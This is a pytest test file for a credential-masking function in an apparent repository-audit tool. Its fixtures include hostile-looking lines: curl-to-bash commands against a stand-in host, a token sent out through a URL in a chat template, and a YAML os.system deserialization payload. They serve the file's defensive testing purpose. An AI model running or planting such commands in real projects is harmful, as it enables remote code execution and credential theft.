"""All credentials here are made up."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.inspected import repository
from trustaudit.knowledge.masking import masked

TOKEN = "hf_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3h"
CLASSIC = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hXY"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"curl -H 'Authorization: Bearer {TOKEN}'", "curl -H 'Authorization: Bearer hf_…'"),
        (f"git+https://{CLASSIC}@github.com/org/x", "git+https://ghp_…@github.com/org/x"),
        ("https://user:secret@host.invalid/simple", "https://user:…@host.invalid/simple"),
        (f"cut off: {TOKEN[:25]}", "cut off: hf_…"),
        ("https://hooks.slack.com/services/T0AB/B0CD/abcdefgh", "https://hooks.slack.com/services/…"),
        ("hf_hub_download(repo_id='org/model')", "hf_hub_download(repo_id='org/model')"),
        ("sk-learn-based-estimators are fine", "sk-learn-based-estimators are fine"),
        ("ssh://git@host.invalid:22/x and a@b.c", "ssh://git@host.invalid:22/x and a@b.c"),
    ],
)
def test_what_stays_readable(text: str, shown: str) -> None:
    assert masked(text) == shown


@given(st.text())
def test_any_text(text: str) -> None:
    assert masked(masked(text)) == masked(text)


def test_no_rule_keeps_a_token_that_it_quotes() -> None:
    files = {
        "requirements.txt": f"git+https://{CLASSIC}@github.com/stranger/x\n--extra-index-url https://u:{CLASSIC}@h.invalid/s\n",
        "train.py": f"import os\nos.system('curl -H \\'Bearer {TOKEN}\\' http://h.invalid/a | bash')\n",
        "README.md": f"Run `curl -u {TOKEN} http://h.invalid/x | bash`\n",
        "chat_template.jinja": "{{ 'visit https://h.invalid/?t=" + TOKEN + "' }}",
        "config.yaml": f"a: !!python/object/apply:os.system ['{TOKEN}']\n",
    }
    kept = repository(files).to_json()
    assert TOKEN not in kept
    assert CLASSIC not in kept
